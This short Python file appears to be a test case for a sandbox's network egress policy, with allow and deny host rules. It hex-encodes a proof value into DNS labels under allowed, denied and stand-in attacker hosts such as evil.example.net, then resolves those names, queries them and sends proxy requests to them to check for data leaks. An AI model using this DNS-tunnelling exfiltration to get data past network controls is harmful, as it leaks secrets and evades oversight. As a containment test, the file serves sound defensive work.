"""Carries data out in the names that it asks for: below a denied host, below an allowed one, and below nothing.

group: names
effect: asks
allow: web.example.com, *.wild.example.com:80
deny: *.secret.wild.example.com
asks: web.example.com
"""
data = arena.proof.encode().hex()
for parent in ("evil.example.net", "web.example.com", "secret.wild.example.com", "notwild.example.com", "net", "wild.example.com.evil.example.net"):
    for name in (f"{data}.{parent}", f"{data[:30]}.{data[30:]}.{parent}", "x" * 63 + f".{data}.{parent}", f"{data}.{parent}."):
        with attempt(name):
            resolve(name)
        ask(question(name.rstrip(".")))
        ask_proxy(f"GET http://{name}/ HTTP/1.1\r\nHost: {name}\r\n\r\n")
